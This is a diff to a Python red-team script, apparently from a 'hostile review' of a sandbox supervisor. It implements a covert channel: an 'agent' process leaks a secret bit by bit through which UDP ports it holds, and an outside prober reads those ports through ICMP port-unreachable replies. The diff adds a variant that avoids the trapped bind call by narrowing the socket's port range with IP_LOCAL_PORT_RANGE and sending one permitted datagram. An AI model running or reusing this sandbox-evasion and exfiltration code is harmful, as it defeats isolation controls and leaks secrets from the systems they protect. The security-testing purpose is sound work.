@@ -1,9 +1,13 @@
 #!/usr/bin/env python3
 """ha40-portstate.py (hostile review h-attack40): the agent and the prober.
 
-agent BASE SECRET MARK: binds an unconnected UDP socket on the wildcard at
-BASE+i for every bit i of SECRET that is 1 (bind is not trapped, and sends
-nothing), touches MARK, and holds them 30 s. A datagram from any host to a
+agent BASE SECRET MARK [autobind]: binds an unconnected UDP socket on the
+wildcard at BASE+i for every bit i of SECRET that is 1 (bind is not
+trapped, and sends nothing), touches MARK, and holds them $HOLD seconds
+(4). With autobind it never calls bind: IP_LOCAL_PORT_RANGE (6.8, not
+trapped) narrows the socket's ephemeral range to BASE+i alone, and one
+allowed datagram to the declared 198.51.100.7:9999 has the socket given
+that port (the supervisor's own port-giving bind honours the range). A datagram from any host to a
 port without a socket makes the kernel answer ICMP port unreachable; to a
 bound port, nothing: the kernel tells the agent's bits to whoever asks.
 
@@ -23,10 +27,16 @@ if sys.argv[1] == "agent":
     for i in range(len(secret) * 8):
         if secret[i // 8] >> (7 - i % 8) & 1:
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-            s.bind(("0.0.0.0", base + i))
+            if sys.argv[5:] == ["autobind"]:
+                p = base + i
+                s.setsockopt(socket.IPPROTO_IP, 51, (p | p << 16).to_bytes(4, "little"))  # IP_LOCAL_PORT_RANGE
+                s.sendto(b"x", ("198.51.100.7", 9999))
+                assert s.getsockname()[1] == p, s.getsockname()
+            else:
+                s.bind(("0.0.0.0", base + i))
             held.append(s)
     open(mark, "w").close()
-    print("agent: %d ports bound, nothing sent" % len(held), file=sys.stderr, flush=True)
+    print("agent: %d ports bound" % len(held), file=sys.stderr, flush=True)
     time.sleep(float(os.environ.get("HOLD", "4")))
 else:
     host, base, nbits, pfx = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
